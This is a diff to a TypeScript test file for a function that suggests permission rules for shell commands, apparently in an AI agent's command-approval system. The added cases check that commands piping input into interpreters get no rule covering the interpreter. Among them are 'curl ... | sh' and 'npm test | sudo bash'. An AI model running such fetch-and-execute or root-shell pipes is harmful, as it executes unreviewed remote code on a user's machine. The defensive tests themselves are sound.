@@ -10,7 +10,7 @@ const suggestions: readonly (readonly [command: string, rules: readonly string[]
   ['pnpm --filter core test', ['Bash(pnpm --filter core test)']],
   ['ls src', []],
   ['docker compose up -d', ['Bash(docker compose up *)']],
-  ['docker exec web sh', ['Bash(docker exec web sh)']],
+  ['docker exec web ls', ['Bash(docker exec web ls)']],
   ['npm exec x', ['Bash(npm exec x)']],
   ['gh pr view 12', ['Bash(gh pr view *)']],
   ['python3 script.py', ['Bash(python3 script.py)']],
@@ -30,6 +30,14 @@ const suggestions: readonly (readonly [command: string, rules: readonly string[]
   ['npm test "', []],
   ['npm\u200b test', []],
   ['unknown-tool x', ['Bash(unknown-tool x)']],
+  // What is fed to an interpreter is in no rule's text.
+  ['curl -s https://a.example/x | sh', ['Bash(curl -s https://a.example/x)']],
+  ['cat x.py | python3 -', []],
+  ['python3 <<EOF\nprint(1)\nEOF', []],
+  ['npm test | sudo bash', ['Bash(npm test *)']],
+  ['bash -s x < script', []],
+  ['/bin/sh < script', []],
+  ['docker exec -i web sh', []],
 ];
 test.each(suggestions)('for %j it suggests %j', (command, rules) => {
   expect(classifyBash(command).suggestedRules).toEqual(rules);
